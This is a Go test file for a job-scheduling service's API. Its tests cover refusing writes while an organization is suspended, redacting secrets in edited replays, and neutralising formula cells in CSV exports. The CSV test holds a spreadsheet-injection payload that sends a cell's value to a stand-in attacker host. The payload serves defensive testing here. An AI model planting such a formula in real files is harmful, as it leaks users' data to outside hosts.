package api_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/prikke/prikke"
	"github.com/prikke/prikke/internal/auth"
	"github.com/prikke/prikke/internal/service"
)

// TestSuspendedNoActorWrites: the writes that run without an actor (and
// so past the service's can) are refused while the organization is
// suspended: the ping API's create=1 by the project's ping key, and a
// member's acceptance of an invitation sent before the suspension.
func TestSuspendedNoActorWrites(t *testing.T) {
	t.Parallel()
	dialects(t, func(t *testing.T, s *server) {
		ctx := context.Background()
		tn := s.newTenant(prikke.TierPro)
		invitee := s.newTenant(prikke.TierFree)
		tok, hash := auth.NewToken()
		inv := &prikke.Invitation{ID: prikke.NewID(), OrganizationID: tn.org.ID, Email: invitee.user.Email, Role: prikke.RoleMember,
			TokenHash: hash, InvitedBy: tn.user.ID, ExpiresAt: time.Now().Add(time.Hour), CreatedAt: time.Now()}
		if err := s.store.InvitationCreate(ctx, inv); err != nil {
			t.Fatal(err)
		}
		if _, err := s.svc.SuspendOrganization(ctx, service.CLIOperator(), tn.org.ID, "Abuse"); err != nil {
			t.Fatal(err)
		}
		if _, _, err := s.svc.CreateMonitorByPingKey(ctx, tn.project.PingKey, "made-while-suspended"); prikke.ErrorCode(err) != prikke.EFORBIDDEN {
			t.Errorf("ping create=1 while suspended: %v; want EFORBIDDEN", err)
		}
		if _, err := s.store.MonitorGetBySlug(ctx, tn.project.ID, "made-while-suspended"); prikke.ErrorCode(err) != prikke.ENOTFOUND {
			t.Errorf("a monitor was created while suspended: %v", err)
		}
		if _, err := s.svc.AcceptInvitation(ctx, &service.Actor{User: invitee.user}, tok); prikke.ErrorCode(err) != prikke.EFORBIDDEN {
			t.Errorf("accept invitation while suspended: %v; want EFORBIDDEN", err)
		}
		if _, err := s.store.MembershipGet(ctx, tn.org.ID, invitee.user.ID); prikke.ErrorCode(err) != prikke.ENOTFOUND {
			t.Errorf("joined a suspended organization: %v", err)
		}
		if _, err := s.svc.UnsuspendOrganization(ctx, service.CLIOperator(), tn.org.ID); err != nil {
			t.Fatal(err)
		}
		if _, created, err := s.svc.CreateMonitorByPingKey(ctx, tn.project.PingKey, "made-after"); err != nil || !created {
			t.Errorf("ping create=1 after unsuspend: %v, %v", created, err)
		}
	})
}

// TestReplayEditedSecretNotShown: a replay edited with a secret header
// value or a body field the project redacts stores them as they will be
// sent until its attempt completes; reading the pending replay (the API,
// the dashboard, its curl) shows them redacted, as the record will be.
func TestReplayEditedSecretNotShown(t *testing.T) {
	t.Parallel()
	dialects(t, func(t *testing.T, s *server) {
		tn := s.newTenant(prikke.TierPro)
		c := s.withKey(tn.key)
		if r := c.do("PATCH", "/api/v1/projects/"+tn.project.ID.String(), map[string]any{
			"redact": map[string]any{"headers": []string{"Authorization", "X-Api-Key"}, "json_paths": []string{"password"}}}); r.Status != 200 {
			t.Fatalf("set redaction = %d %s", r.Status, r.Body)
		}
		r := c.do("POST", "/api/v1/jobs", map[string]any{"url": "https://example.com/hook", "method": "POST", "interval": "hourly",
			"headers": map[string]string{"Authorization": "Bearer current"}})
		if r.Status != 201 {
			t.Fatalf("create = %d %s", r.Status, r.Body)
		}
		var j struct {
			ID string `json:"id"`
		}
		r.json(t, &j)
		jobID, _ := prikke.ParseID(j.ID)
		es := seedExecutions(t, s, tn, jobID, time.Now().UTC().Add(-time.Hour), prikke.ExecutionStatusFailed)
		const token, pw = "typed-in-secret-token-1234", "hunter2-typed-password"
		r = c.do("POST", "/api/v1/executions/"+es[0].ID.String()+"/replay", map[string]any{
			"headers": map[string]string{"X-Api-Key": token}, "body": `{"user":"a","password":"` + pw + `"}`})
		if r.Status != 201 {
			t.Fatalf("replay = %d %s", r.Status, r.Body)
		}
		if strings.Contains(string(r.Body), token) || strings.Contains(string(r.Body), pw) {
			t.Errorf("replay answer shows the edited secrets: %s", r.Body)
		}
		var rep struct {
			ID string `json:"id"`
		}
		r.json(t, &rep)
		r = c.do("GET", "/api/v1/executions/"+rep.ID, nil)
		if r.Status != 200 || strings.Contains(string(r.Body), token) || strings.Contains(string(r.Body), pw) {
			t.Errorf("pending replay = %d %s; want the edited secrets redacted", r.Status, r.Body)
		}
		// The worker still sends what was typed in.
		id, _ := prikke.ParseID(rep.ID)
		stored, err := s.store.ExecutionGet(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(stored.RequestBody), pw) {
			t.Errorf("stored replay body %q; want the edit kept for the send", stored.RequestBody)
		}
	})
}

// TestExportCSVFormulaCells: an export's free-text cells (an error may
// quote the endpoint) that a spreadsheet would run as a formula start with
// a ' in the CSV; the JSON lines keep them as they are.
func TestExportCSVFormulaCells(t *testing.T) {
	t.Parallel()
	dialects(t, func(t *testing.T, s *server) {
		tn := s.newTenant(prikke.TierPro)
		c := s.withKey(tn.key)
		r := c.do("POST", "/api/v1/jobs", map[string]any{"url": "https://example.com/hook", "interval": "hourly"})
		var j struct {
			ID string `json:"id"`
		}
		r.json(t, &j)
		jobID, _ := prikke.ParseID(j.ID)
		at := time.Now().UTC().Add(-time.Hour).Truncate(time.Millisecond)
		const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
		e := &prikke.Execution{ID: prikke.NewID(), JobID: jobID, ProjectID: tn.project.ID, OrganizationID: tn.org.ID,
			ScheduledFor: at, DueAt: at, Attempt: 1, Status: prikke.ExecutionStatusFailed, Error: evil, CreatedAt: at,
			StartedAt: &at, FinishedAt: &at, RequestMethod: "POST", RequestURL: "https://example.com/hook"}
		if err := s.store.ExecutionInsert(context.Background(), e); err != nil {
			t.Fatal(err)
		}
		base := "/api/v1/projects/" + tn.project.ID.String() + "/executions/export"
		r = c.do("GET", base+"?format=csv", nil)
		rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
		if r.Status != 200 || err != nil || len(rows) != 2 {
			t.Fatalf("export = %d %v %s", r.Status, err, r.Body)
		}
		col := slices.Index(rows[0], "error")
		if got := rows[1][col]; got != "'"+evil {
			t.Errorf("csv error cell %q; want it neutralised with a leading '", got)
		}
		r = c.do("GET", base+"?format=jsonl", nil)
		if r.Status != 200 || !strings.Contains(string(r.Body), `"error":"=HYPERLINK`) {
			t.Errorf("jsonl = %d %s; want the error as it is", r.Status, r.Body)
		}
	})
}
